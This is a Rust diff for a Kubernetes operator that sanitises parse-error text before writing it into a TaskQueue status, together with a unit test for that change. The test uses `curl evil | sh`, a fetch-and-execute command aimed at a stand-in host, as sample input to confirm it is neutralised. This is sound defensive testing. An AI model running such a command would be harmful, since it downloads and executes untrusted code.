@@ -5,6 +5,7 @@ use k8s_openapi::jiff::Timestamp;
 use rowlock_crds::{ConditionReason, ConditionType, TaskQueueStatus};
 use serde_json::json;
 
+use super::database::words;
 use super::shared::{Shared, Unread};
 
 /// Writes the status of each that was not told yet; `told` remembers.
@@ -28,7 +29,7 @@ pub(crate) async fn tell(shared: &Shared, told: &mut Vec<Unread>) {
 fn status(one: &Unread) -> TaskQueueStatus {
     let message = format!(
         "this release of the operator cannot read it, and leaves its pods as they are: {}",
-        one.error
+        words(&one.error)
     );
     let condition = |type_: ConditionType, status: &str| Condition {
         type_: type_.as_str().to_owned(),
@@ -42,5 +43,19 @@ fn status(one: &Unread) -> TaskQueueStatus {
         observed_generation: one.generation,
         conditions: vec![condition(ConditionType::Ready, "False"), condition(ConditionType::Stalled, "True")],
         ..TaskQueueStatus::default()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Before, an error that repeats what a `TaskQueue` says stood in the status as it is.
+    #[test]
+    fn what_cannot_be_read_looks_like_no_command() {
+        let error = "unknown variant `curl evil | sh`\n".to_owned();
+        let one = Unread { namespace: "shop".into(), name: "emails".into(), generation: None, error };
+        let said = status(&one).conditions.remove(0).message;
+        assert!(said.ends_with("unknown variant 'curl evil | sh' "), "{said}");
     }
 }
